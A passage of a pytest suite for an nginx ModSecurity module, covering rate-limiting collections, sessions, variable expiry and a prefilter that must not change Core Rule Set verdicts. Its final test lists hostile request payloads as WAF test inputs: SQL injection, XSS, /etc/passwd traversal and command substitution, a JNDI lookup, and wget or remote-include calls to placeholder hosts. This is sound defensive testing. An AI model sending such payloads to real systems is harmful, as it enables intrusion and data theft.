    wait_until(lambda: server.get("/").status == 429, "four within a second of one another")
    # Each look touches it: only one that comes later than a second after the last finds it gone.
    wait_until(lambda: select.select([], [], [], 1.5) and server.get("/").status == 200)


KINDS = {
    "global": "initcol:global=all",
    "ip": "initcol:ip=%{ARGS.key}",
    "resource": "initcol:resource=%{REQUEST_FILENAME}_%{ARGS.key}",
    "session": "setsid:%{ARGS.key}",
    "user": "setuid:%{ARGS.key}",
}


@pytest.mark.parametrize("kind", KINDS)
def test_each_kind_of_collection_is_of_its_key_in_all_workers_and_after_a_reload(weir, kind):
    server = weir(main="worker_processes 2;", server=waf(
        f'SecAction "id:1,phase:1,pass,nolog,{KINDS[kind]},setvar:{kind}.seen=+1"',
        f'SecRule {kind.upper()}:seen "@gt 3" "id:2,phase:1,deny,status:429"') + FINE)

    def asked(key, count):
        return [server.get("/?key=" + key).status for _ in range(count)]

    assert asked("one", 2) == [200, 200]
    server.reload()
    assert asked("one", 2) == [200, 429]
    assert asked("two", 1) == [429 if kind == "global" else 200]
    assert asked("one", 1) == [429]


def test_a_web_application_has_sessions_of_its_own(weir):
    counting = ('SecAction "id:1,phase:1,pass,nolog,setsid:1,setvar:session.seen=+1"',
                'SecRule SESSION:seen "@gt 1" "id:2,phase:1,deny,status:429"')
    server = weir("".join("location /%s { %s return 200 fine; }" % (name, waf("SecWebAppId " + name, *counting))
                          for name in ("shop", "blog")))
    assert [server.get(path).status for path in ("/shop", "/blog", "/shop")] == [200, 200, 429]


def test_deprecatevar_takes_some_off_by_time_and_not_by_request(weir):
    def counting(pace):
        return waf(f'SecAction "id:1,phase:1,pass,nolog,initcol:ip=x,deprecatevar:ip.seen={pace},setvar:ip.seen=+1"',
                   'SecRule IP:seen "@gt 3" "id:2,phase:1,deny,status:429"') + FINE

    server = weir(counting("5/100000"))
    assert statuses(server, 5) == [200, 200, 200, 429, 429]
    server.reload(server.config.replace("5/100000", "100000/1"))
    wait_until(lambda: server.get("/").status == 200)


def test_a_flood_of_keys_stays_in_its_zone_and_is_told_of_once(weir):
    server = weir(http="modsecurity_collections_size 64k; keepalive_requests 10000;", server=waf(
        'SecAction "id:1,phase:1,pass,nolog,initcol:ip=%{ARGS.key},setvar:ip.seen=+1"',
        'SecRule IP:seen "@gt 1" "id:2,phase:1,deny,status:429"') + FINE)
    connection = server.connect()
    for number in range(2000):
        assert connection.request(f"/?key={number}").status == 200
    # The last ones are there, the first ones are not.
    assert connection.request("/?key=1999").status == 429
    assert connection.request("/?key=0").status == 200
    assert server.log().count("modsecurity_collections_size") == 1


def test_a_collection_that_grows_too_large_keeps_what_it_has_and_says_so(weir):
    server = weir(waf(
        'SecAction "id:1,phase:1,pass,nolog,initcol:ip=x,setvar:ip.seen=+1"',
        'SecAction "id:2,phase:1,pass,nolog,setvar:ip.name_%{ARGS.name}=%{ARGS.name}"',
        'SecRule IP:seen "@gt 8" "id:3,phase:1,deny,status:429"') + "large_client_header_buffers 4 16k;" + FINE)
    answers = [server.get(f"/?name={number}" + "x" * 4000).status for number in range(9)]
    assert answers == [200] * 8 + [429]
    assert server.log().count("of collections are lost, the last one of ") == 1


def test_a_variable_of_a_collection_expires(weir):
    server = weir(waf(
        'SecAction "id:1,phase:1,pass,nolog,initcol:ip=%{REMOTE_ADDR}"',
        'SecRule IP:blocked "@eq 1" "id:2,phase:1,deny,status:429"',
        'SecRule ARGS "@contains evil" "id:3,phase:1,deny,setvar:ip.blocked=1,expirevar:ip.blocked=1"') + FINE)
    assert server.get("/?q=good").status == 200
    assert server.get("/?q=evil").status == 403
    wait_until(lambda: server.get("/?q=good").status == 200)


# ---- the filter in front of the expressions changes no verdict

PAYLOADS = [
    "/?q=a+book", "/?q=1%27+or+%271%27=%271", "/?q=%3Cimg+src=x+onerror=alert(1)%3E", "/?q=..%2f..%2fetc%2fpasswd",
    "/?q=%60id%60", "/?q=$(cat+/etc/passwd)", "/?q=%3C?php+system(1)", "/?q=http://evil/x.txt?", "/?q=%00",
    "/?q=UNION%09SELECT%0a1,2", "/?a=1&a=%27--", "/?q=javascript:alert(1)", "/?q=%252e%252e%252f", "/.git/config",
    "/?q=${jndi:ldap://x}", "/?q=;wget+http://x", "/?<script>=1", "/?q=sleep(5)", "/?q=%u003cscript%u003e", "/?q=%ff%fe",
]


def test_verdicts_do_not_depend_on_the_prefilter(weir):
    def verdicts(state):
        server = weir(http=f"modsecurity_prefilter {state};", server="""
            modsecurity on; modsecurity_verdict_log verdicts.json;
            modsecurity_rules 'SecRuleEngine On\nSecRequestBodyAccess On
                Include /etc/modsecurity/crs/crs-setup.conf
                SecAction "id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=4"
                Include /usr/share/modsecurity-crs/rules/*.conf';
            location / { return 200 fine; }""")
        found = []
        for path in PAYLOADS:
            found.append(server.request(path, "GET", [("User-Agent", "x"), ("Accept", "*/*")]).status)
        wait_until(lambda: server.read("verdicts.json").count("\n") == sum(status != 200 for status in found))
        rules = [[(rule["id"], rule["sum"]) for rule in json.loads(line)["rules"]]
                 for line in server.read("verdicts.json").splitlines()]
        server.stop()
        os.unlink(server.folder.file("verdicts.json"))
        return found, rules

    with_filter, without = verdicts("on"), verdicts("off")
    assert 403 in with_filter[0]
    assert with_filter == without
